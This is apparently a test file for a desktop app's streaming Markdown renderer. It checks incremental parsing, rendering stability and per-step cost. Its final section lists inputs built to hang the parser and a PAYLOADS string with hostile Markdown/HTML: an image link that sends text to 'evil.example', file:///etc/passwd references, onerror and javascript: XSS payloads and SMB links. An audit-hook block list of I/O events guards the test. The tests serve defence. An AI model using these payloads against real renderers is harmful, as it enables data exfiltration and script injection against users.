"""A Markdown text that grows, and texts made to hang or to crash."""

from __future__ import annotations

import itertools
import random
import subprocess
import sys
import time
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from desktop.rendering.markdown.document import MarkdownDocument
from desktop.rendering.markdown.leaves import normalize, parse
from desktop.rendering.text.shown_text import plain_text
from tests.rendering.documents import ANSWERS, fragments, letters, well_formed, without_growth
from tests.support.examples import examples


def count_calls(work):
    count = 0

    def count_call(frame, event, argument):
        nonlocal count
        count += event in ("call", "c_call")

    sys.setprofile(count_call)
    try:
        work()
    finally:
        sys.setprofile(None)
    return count


_PHRASE = "the model answers with words that are neither long nor short, *some* of them **bold** or `code`, and more"
_WORDS = _PHRASE.split()


def _sentence(dice, length):
    words, total = [], 0
    while total < length:
        words.append(dice.choice(_WORDS))
        total += len(words[-1]) + 1
    return " ".join(words) + "."


def _filled(size, first, piece):
    dice, parts, total = random.Random(7), [first], len(first)
    for number in itertools.count(1):
        parts.append(piece(dice, number))
        total += len(parts[-1])
        if total >= size:
            return "".join(parts)[:size]
    raise AssertionError


def _mixed(dice, number):
    return (
        f"## Heading {number}\n\n{_sentence(dice, 300)}\n\n- {_sentence(dice, 60)}\n- {_sentence(dice, 60)}\n"
        f"  - {_sentence(dice, 40)}\n\n```python\ndef f{number}(x):\n    return x + {number}\n```\n\n"
        f"| a | b |\n|---|---|\n| {number} | *x* |\n\n> {_sentence(dice, 80)}\n\n"
    )


SHAPES: dict[str, Callable[[int], str]] = {
    "mixed": lambda size: _filled(size, "", _mixed),
    "code": lambda size: _filled(size, "```python\n", lambda dice, n: f"    value_{n} = compute({n})  # a note\n"),
    "code in an item": lambda size: _filled(size, "1. x\n\n   ```py\n", lambda dice, n: f"   value_{n} = f({n})\n"),
    "list": lambda size: _filled(size, "", lambda dice, n: f"- {_sentence(dice, 70)}\n"),
    "numbered list": lambda size: _filled(size, "", lambda dice, n: f"1. {_sentence(dice, 70)}\n\n"),
    "nested list": lambda size: _filled(
        size, "1. x\n", lambda dice, n: f"   - {_sentence(dice, 60)}\n     - {_sentence(dice, 30)}\n"
    ),
    "one line": lambda size: _filled(size, "", lambda dice, n: _sentence(dice, 100) + " "),
    "paragraph": lambda size: _filled(size, "", lambda dice, n: _sentence(dice, 100) + "\n"),
    "Chinese": lambda size: _filled(size, "", lambda dice, n: "这是一个没有空格的长段落，其中有**粗体**和`代码`。"),
    "unclosed": lambda size: _filled(size, "", lambda dice, n: f"{n}*3 a_b [x {_sentence(dice, 80)} "),
    "table": lambda size: _filled(size, "| a | b |\n|---|---|\n", lambda dice, n: f"| {n} | {_sentence(dice, 40)} |\n"),
    "quote": lambda size: _filled(
        size, "", lambda dice, n: f"> {_sentence(dice, 90)}\n" + (">\n" if n % 3 == 0 else "")
    ),
}


# --- A text that grows ---------------------------------------------------------------------------------------------


def _final(leaves):
    return [without_growth(leaf) for leaf in leaves]


def _grown(text, cuts):
    """Append the text in pieces of these lengths, in turn, checking on the way that what is said to stay stays."""
    document = MarkdownDocument()
    position = turn = 0
    while position < len(text):
        before = list(document.leaves)
        length = cuts[turn % len(cuts)]
        first = document.append(text[position : position + length])
        _check_step(before, document.leaves, first)
        position, turn = position + length, turn + 1
    return document


def _check_step(before, after, first):
    assert first <= len(after)
    assert all(old is new for old, new in zip(before[:first], after[:first], strict=True))


def _is_whole(document, text):
    before = list(document.leaves)
    _check_step(before, document.leaves, document.finish() if before else 0)
    document.finish()
    assert _final(document.leaves) == _final(parse(text))
    assert document.source == normalize(text)


CUTS = [[1], [7], [17, 1], [64]]


@pytest.mark.parametrize("name", ANSWERS)
@pytest.mark.parametrize("cuts", CUTS, ids=str)
def test_an_answer_is_shown_right_in_pieces_and_in_the_end(name, cuts):
    """But for links that are defined below them, which are right in the end."""
    text = ANSWERS[name] + "\n\n***\n"
    document = _grown(text, cuts)
    if name not in ("comparison", "definitions"):
        assert _final(document.leaves) == _final(parse(text))
    _is_whole(document, text)


@given(well_formed, st.lists(st.integers(1, 40), min_size=1, max_size=6))
@settings(max_examples=examples(150), deadline=None)
def test_so_is_any_well_formed_text(text, cuts):
    text += "\n\n***\n"
    assert _final(_grown(text, cuts).leaves) == _final(parse(text))


@given(fragments, st.lists(st.integers(1, 40), min_size=1, max_size=6))
@settings(max_examples=examples(250), deadline=None)
def test_any_text_is_right_in_the_end(text, cuts):
    _is_whole(_grown(text, cuts), text)


@given(letters, st.lists(st.integers(1, 40), min_size=1, max_size=6))
@settings(max_examples=examples(150), deadline=None)
def test_lines_break_while_they_are_written_as_they_do_in_the_end(text, cuts):
    whole, document, position = _lines_of(parse(text)), MarkdownDocument(), 0
    while position < len(text):
        length = cuts[position % len(cuts)]
        document.append(text[position : position + length])
        position += length
        shown = _lines_of(document.leaves)
        assert shown[:-1] == whole[: max(0, len(shown) - 1)]  # the last line is still being written
    document.finish()
    assert _lines_of(document.leaves) == whole


def _lines_of(leaves):
    return [line for leaf in leaves for line in leaf.text.split("\n")]


@pytest.mark.parametrize("opening", ["", "**", "$x_1 + ", "[a link"])
def test_an_open_construct_keeps_its_lines_while_it_is_written(opening):
    """Also where it is so long that its end is shown as it stands."""
    lines = [f"line {number}" for number in range(200)]
    document = MarkdownDocument(opening)
    for number, line in enumerate(lines):
        document.append(line + "\n")
        shown = [each.removesuffix("$") for each in _lines_of(document.leaves)]
        assert shown[-3:] == [opening + lines[0], *lines[1 : number + 1]][-3:]


@pytest.mark.parametrize("name", SHAPES)
def test_long_shapes_in_pieces(name):
    text = SHAPES[name](5_000).rstrip()  # a longer paragraph is cut until all is read once more
    if name != "unclosed":
        shown = plain_text(_grown(text, [55]).leaves)
        assert plain_text(parse(text)).startswith(shown[:-600])  # the end is as written
    text = SHAPES[name](7_000)
    _is_whole(_grown(text, [55]), text)


def _looks(leaves):
    """How each block looks, by where it begins in the source."""
    looks: dict[int, list[object]] = {}
    for leaf in leaves:
        looks.setdefault(leaf.source[0], []).append((leaf.kind, leaf.level, leaf.containers))
    return looks


def _changes_of_look(text):
    """The looks of each block that has more than two of them while the text is written letter by letter."""
    document = MarkdownDocument()
    history: dict[int, list[object]] = {}
    for letter in [*text, ""]:
        document.append(letter) if letter else document.finish()
        now = _looks(document.leaves)
        for start in history.keys() | now.keys():
            seen = history.setdefault(start, [])
            if not seen or seen[-1] != now.get(start):
                seen.append(now.get(start))
    return {start: seen for start, seen in history.items() if len(seen) > 2}


@pytest.mark.parametrize("name", ANSWERS)
def test_a_block_changes_its_look_once_at_most(name):
    assert _changes_of_look(ANSWERS[name]) == {}


@given(well_formed)
@settings(max_examples=examples(150), deadline=None)
def test_so_does_a_block_of_any_well_formed_text(text):
    assert _changes_of_look(text) == {}


def test_links_defined_at_the_end_become_links_when_it_is_finished():
    document = MarkdownDocument("[a]\n\nb\n\n| [a] |\n|--|\n\n")
    assert document.leaves[0].text == "[a]"
    document.append("[a]: https://x.y\n")
    assert document.finish() == 0
    assert document.leaves[0].spans[0].href == "https://x.y"
    assert document.leaves[2].table is not None
    assert document.leaves[2].table.rows[0][0].spans[0].href == "https://x.y"


@pytest.mark.parametrize("opening", ["See [1].\n\n", "# See\n", "- See [1].\n\n", "> See\n\n", ""])
@pytest.mark.parametrize("length", [7, 64])
def test_definitions_of_links_are_never_shown_and_links_behind_them_are_links(opening, length):
    sources = "".join(f'[{number}]: https://example.org/{number} "Title {number}"\n' for number in range(60))
    text = f"{opening}{sources}\nMore [1]. And more"
    document = MarkdownDocument()
    for position in range(0, len(text), length):
        document.append(text[position : position + length])
        assert not any("https" in leaf.text for leaf in document.leaves)
    assert [span.href for span in document.leaves[-1].spans] == ["https://example.org/1"]
    shown = _final(document.leaves)
    document.finish()
    assert shown[-1] == _final(document.leaves)[-1]


@pytest.mark.parametrize("address", ["<" + "a" * 1_500, "<data:image/png;base64," + "iVBORw0KGgo" * 150 + ">\n\nwords"])
def test_a_long_half_of_a_definition_leaves_the_text_before_it(address):
    document = MarkdownDocument("The text before.\n\n")
    for position in range(0, len(address), 7):
        document.append("[1]: " * (position == 0) + address[position : position + 7])
        assert document.leaves[0].text == "The text before."


LEAFLESS = {
    "line feeds": ("", "\n"),
    "line feeds behind a text": ("text\n", "\n"),
    "line feeds behind an item": ("- text\n", "\n"),
    "lines of a quote": ("", ">\n"),
    "lines of a quote behind its text": ("> text\n", ">\n"),
    "a link defined again": ("text\n\n", "[a]: b\n"),
    "a link with a title defined again": ("text\n\n", '[a]: https://x.y "Title"\n'),
}


@pytest.mark.parametrize("name", LEAFLESS)
def test_what_is_no_leaf_is_not_read_again_and_again(name):
    opening, line = LEAFLESS[name]
    document = MarkdownDocument(opening)
    steps = [count_calls(lambda: document.append(line * 400)) for _ in range(50)]
    assert max(steps[-25:]) <= max(steps[:25]) * 1.2


def test_a_long_text_is_whole_when_all_was_read():
    text = "[a]\n\n" + "words\n\n" * 5_000 + "[a]: https://x.y\n"
    document = MarkdownDocument()
    for position in range(0, len(text), 1_000):
        document.append(text[position : position + 1_000])
    document.finish()
    assert not document.is_whole
    assert document.leaves[0].spans == ()
    middle = document.leaves[2_000]
    assert document.take_whole(parse(text)) == 0
    assert document.is_whole
    assert document.leaves[0].spans[0].href == "https://x.y"
    assert document.leaves[2_000] is middle


@pytest.mark.parametrize("name", SHAPES)
def test_the_end_costs_what_the_beginning_cost(name):
    """By counting calls, which does not depend on the machine."""
    text = SHAPES[name](6_000)
    pieces = [text[position : position + 20] for position in range(0, len(text), 20)]
    document = MarkdownDocument()
    early, late = (
        count_calls(lambda part=part: [document.append(piece) for piece in part])
        for part in (pieces[:150], pieces[150:])
    )
    assert late <= early * 1.3


# --- Texts made to hang, to crash or to make the program open something --------------------------------------------

# Many times what each takes on a slow machine (the worst about a second of CPU), and far below what would be quadratic.
BOUND = 8.0
HOSTILE = {
    "backticks": "`" * 100_000,
    "runs of backticks": " ".join("`" * length for length in range(1, 400)),
    "quotes": ">" * 20_000,
    "spaced quotes": "> " * 20_000 + "x",
    "deep quotes over lines": (">" * 90 + " a\n") * 2_000,
    "deep list": "".join(" " * (2 * level) + "- x\n" for level in range(500)),
    "list in a line": "- " * 5_000 + "x",
    "list with blank lines": "- " * 30 + "a\n" + "\n" * 20_000,
    "brackets": "[" * 50_000,
    "pairs of brackets": "[]" * 25_000,
    "half links": "[a](" * 12_000,
    "half images": "![a](" * 10_000,
    "nested images": "![" * 400 + "a" + "](x)" * 400,
    "nested links": "[" * 600 + "a" + "](x)" * 600,
    "half definitions": "[a\n" * 10_000,
    "definitions": "[a]: b\n" * 10_000 + "\n" + "[a] " * 5_000,
    "many labels": "".join(f"[a{n}]: b\n" for n in range(2_000))
    + "\n"
    + "".join(f"x [a{n}]\n\n" for n in range(2_000)),
    "open title": '[a]: /u "' + "x\n" * 20_000,
    "stars": "**" * 50_000,
    "stars and lines": "*_" * 15_000,
    "stars in words": "a**b" * 20_000,
    "stars before words": "*a " * 20_000,
    "waves": "~~a " * 20_000,
    "less": "<" * 60_000,
    "half addresses": "<http://" * 8_000,
    "addresses": "http://" * 20_000,
    "closing brackets after an address": "https://x.y/" + ")" * 100_000,
    "ampersands": "&" * 60_000,
    "dollars": "$" * 60_000,
    "dollars in lines": "$$\n" * 20_000,
    "brackets of formulas": "\\[ a_1\n" * 10_000,
    "formula after formula": "$a$ " * 15_000,
    "notes": "[^1]: [^2] x\n\n" * 5_000,
    "notes in notes": "[^1]: " * 10_000,
    "rows without a table": "| | | |\n" * 8_000,
    "odd entities": "&#x110000;&#0;&#xD800;&lt;" * 1_000,
    "backslashes": "\\" * 60_000,
    "wide table": "|a" * 10_000 + "|\n" + "|-" * 10_000 + "|\n" + "|x|\n" * 100,
    "headings": "# " + "a #" * 30_000,
    "rules": "- " * 100_000,
    "changing lists": "- a\n+ b\n" * 10_000,
    "spaces": " " * 1_000_000,
    "lines of spaces": (" " * 1_000 + "\n") * 500,
    "tabs": "\t" * 100_000 + "x",
    "carriage returns": "\r" * 100_000,
    "no characters": "\0" * 100_000,
    "lone surrogates": "\ud800" * 1_000 + "[a](http://\ud800.x) https://\udfff `\ud800` [\ud800]: \ud800",
    "line feeds": "\n" * 100_000,
    "lines of a quote": "> text\n" + ">\n" * 30_000,
    "definitions with titles": "text\n\n" + "".join(f'[{n}]: https://x.y/{n} "Title {n}"\n' for n in range(1_000)),
    "row without an end": "| a | b |\n|---|---|\n" + "| a " * 15_000,
    "three megabytes in a word": "a" * 3_000_000,
    "three megabytes in a line": "word " * 600_000,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_read_in_a_bounded_time(name):
    began = time.process_time()
    parse(HOSTILE[name])
    assert time.process_time() - began < BOUND


MOST_CALLS = 250_000  # some tens of milliseconds


@pytest.mark.parametrize("name", HOSTILE)
def test_no_step_of_a_growing_text_is_long(name):
    """No more is read again of a text than some thousand letters, so that the first ones tell of all."""
    text = HOSTILE[name][:8_000]
    document = MarkdownDocument()
    for position in range(0, len(text), 500):
        piece = text[position : position + 500]
        assert count_calls(lambda piece=piece: document.append(piece)) < MOST_CALLS


_READ_WITH_A_GUARD = """
import sys
from desktop.rendering.code import coloured_lines
from desktop.rendering.markdown.leaves import parse
parse("warm *up* `x`\\n\\n[a]: b\\n")  # what is imported late is imported now
for language in ("python", "html"):
    coloured_lines(["x"], language)

def guard(event, arguments):
    if event.split(".")[0] in {"open", "socket", "subprocess", "os", "urllib", "ctypes", "winreg"}:
        raise RuntimeError(event)

sys.addaudithook(guard)
text = sys.argv[1]
leaves = parse(text)
for language in ("python", "html"):
    coloured_lines(text.splitlines(), language)
print(len(leaves))
"""
PAYLOADS = """
![a](https://evil.example/collect?words=secret) ![b](file:///etc/passwd) ![c](//host/share/x.png) ![d](/dev/zero)
![e][1] [f][1] <img src="/etc/passwd"> <img src=x onerror=alert(1)> <link rel=stylesheet href=/etc/passwd>
<style>@import url(/etc/passwd)</style> [g](javascript:alert(1)) [h](file:///etc/passwd) <file:///etc/passwd>

<iframe src="https://evil.example"></iframe>

| ![t](/etc/passwd) |
|---|
| [u](smb://host/share) |

[1]: file:///etc/passwd
"""


def test_reading_opens_nothing():
    done = subprocess.run(
        [sys.executable, "-c", _READ_WITH_A_GUARD, PAYLOADS], capture_output=True, text=True, timeout=60, check=False
    )
    assert done.returncode == 0, done.stderr
    assert int(done.stdout) == 3


def test_only_what_is_a_web_address_in_plain_sight_is_clickable():
    links = set()
    for leaf in parse(PAYLOADS):
        cells = [cell for row in leaf.table.rows for cell in row] if leaf.table else []
        links |= {span.href for part in (leaf, *cells) for span in part.spans if span.href}  # type: ignore[attr-defined]
    assert links == {"https://evil.example"}
